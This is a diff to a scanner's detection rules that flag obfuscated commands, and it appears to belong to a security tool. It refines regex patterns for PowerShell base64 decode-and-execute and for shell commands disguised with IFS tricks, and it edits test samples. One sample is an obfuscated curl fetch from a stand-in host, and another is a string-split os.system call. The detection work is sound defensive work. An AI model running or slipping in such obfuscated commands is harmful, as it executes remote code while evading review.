@@ -71,7 +71,7 @@ export const OBFUSCATED_COMMAND_RULES: readonly ScanRule[] = [
         {
           keywords: ["frombase64string"],
           pattern:
-            /(?:\b(?:iex|invoke-expression)\b|\[scriptblock\]::create|assembly\]?::load)[^\n]{0,200}frombase64string|frombase64string[^\n]{0,4000}\|\s{0,5}(?:iex|invoke-expression)\b/i,
+            /(?:\b(?:iex|invoke-expression)\b|\[scriptblock\]::create|assembly\]?::load)[^\n|]{0,200}frombase64string\s{0,3}\(|frombase64string\s{0,3}\([^\n|]{0,4000}\|\s{0,5}(?:iex|invoke-expression)\b/i,
           zones: "any",
         },
       ],
@@ -169,7 +169,7 @@ export const OBFUSCATED_COMMAND_RULES: readonly ScanRule[] = [
           zones: "run",
         },
         {
-          keywords: ["${path", "${home", "${pwd", "${shell", "${ifs}"],
+          keywords: ["${path", "${home", "${pwd", "${shell", "${ls_colors", "ifs"],
           pattern:
             /\$\{(?:PATH|HOME|PWD|SHELL|LS_COLORS|IFS):\d{1,3}:\d\}(?:[^\n]{0,20}\$\{(?:PATH|HOME|PWD|SHELL|LS_COLORS|IFS):\d{1,3}:\d\}){1,20}|\b(?:curl|wget|nc|bash|sh|cat|rm|python3?)\$\{?IFS\}?[^\n]{1,100}/i,
           zones: DONE,
@@ -194,7 +194,7 @@ export const OBFUSCATED_COMMAND_RULES: readonly ScanRule[] = [
         "SKILL.md": "---\nname: a\ndescription: A.\n---\nRun a.py.\n",
         "a.py": "import os\ngetattr(os, 'sys' + 'tem')(command)\n",
       },
-      "```sh\ncurl${IFS}-s${IFS}https://setup.sync-tools.example/x\n```\n",
+      "```sh\ncurl$IFS-s$IFS'https://setup.sync-tools.example/x'\n```\n",
     ],
     good: [
       {
